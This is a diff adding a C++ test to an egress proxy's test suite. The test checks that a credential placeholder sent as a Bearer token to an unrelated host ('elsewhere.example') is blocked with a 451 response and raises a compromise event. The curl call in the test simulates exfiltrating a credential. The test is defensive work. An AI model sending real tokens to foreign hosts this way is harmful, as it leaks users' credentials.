@@ -122,6 +122,67 @@ TEST_F(EgressTest, WithoutCredentialsTheGuestStillGetsTheProxyAndTheCa) {
   EXPECT_EQ(ss.str(), g.ca_pem);
 }
 
+// Without any login the workspace's proxy still knows the placeholders a login typed in the
+// guest will get (oauth capture slots, wired here): one sent to another host trips the detector.
+TEST_F(EgressTest, WithoutALoginTheCaptureSlotPlaceholdersTripTheDetector) {
+  auto upstream_ca = proxy::CertAuthority::CreateInMemory("test upstream CA");
+  ASSERT_TRUE(upstream_ca.ok());
+  std::string upstream_ca_file = dir_ + "/upstream-ca.pem";
+  std::ofstream(upstream_ca_file) << (*upstream_ca)->cert_pem();
+  auto fake = proxy::testing::FakeUpstream::Start(
+      *upstream_ca, [](const proxy::testing::SeenRequest&, proxy::testing::ResponseWriter& w) {
+        w.Send(200, {{"content-type", "application/json"}}, "{\"ok\":true}");
+      });
+  ASSERT_TRUE(fake.ok());
+  opts_.resolve = {{"elsewhere.example:443", (*fake)->Address()}};
+  opts_.resolve_only = true;
+  opts_.upstream_ca_file = upstream_ca_file;
+  std::mutex mu;
+  std::vector<proxy::CompromiseEvent> events;
+  opts_.on_compromise = [&](const proxy::CompromiseEvent& ev) {
+    std::lock_guard<std::mutex> l(mu);
+    events.push_back(ev);
+  };
+  auto e = Egress::Start(opts_);
+  ASSERT_TRUE(e.ok()) << e.error().ToString();
+  std::string slot_placeholder;
+  {
+    auto v = vault::Vault::Open({opts_.keys_dir, opts_.secrets_file, "ws"}, vault::KeyBackend::kFile);
+    ASSERT_TRUE(v.ok());
+    auto slots = v->BindCaptureSlots();
+    ASSERT_TRUE(slots.ok());
+    ASSERT_FALSE(slots->empty());
+    slot_placeholder = slots->front().placeholder;  // claude-subscription's access placeholder
+  }
+  int lfd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  sockaddr_in a{};
+  a.sin_family = AF_INET;
+  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  ASSERT_EQ(bind(lfd, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
+  ASSERT_EQ(listen(lfd, 8), 0);
+  socklen_t len = sizeof a;
+  getsockname(lfd, reinterpret_cast<sockaddr*>(&a), &len);
+  std::thread acceptor([&] {
+    int c = accept4(lfd, nullptr, nullptr, SOCK_CLOEXEC);
+    if (c >= 0) (*e)->Serve(c);
+  });
+  std::string ca_file = dir_ + "/guest-ca.pem";
+  std::ofstream(ca_file) << (*e)->guest().ca_pem;
+  auto run = RunProcess({"curl", "-sS", "--max-time", "60", "--cacert", ca_file, "-x",
+                         "http://127.0.0.1:" + std::to_string(ntohs(a.sin_port)), "-o",
+                         "/dev/null", "-w", "%{http_code}", "-H",
+                         "Authorization: Bearer " + slot_placeholder,
+                         "https://elsewhere.example/x"});
+  acceptor.join();
+  close(lfd);
+  ASSERT_TRUE(run.ok()) << run.error().ToString();
+  EXPECT_EQ(run->out, "451") << run->err;
+  std::lock_guard<std::mutex> l(mu);
+  ASSERT_EQ(events.size(), 1u);
+  EXPECT_EQ(events[0].credential, "claude-subscription");
+  EXPECT_TRUE((*fake)->requests().empty());
+}
+
 TEST_F(EgressTest, GuestGetsOnlyThePlaceholderAndTheUpstreamGetsTheRealKey) {
   AddAnthropicKey();
   auto upstream_ca = proxy::CertAuthority::CreateInMemory("test upstream CA");
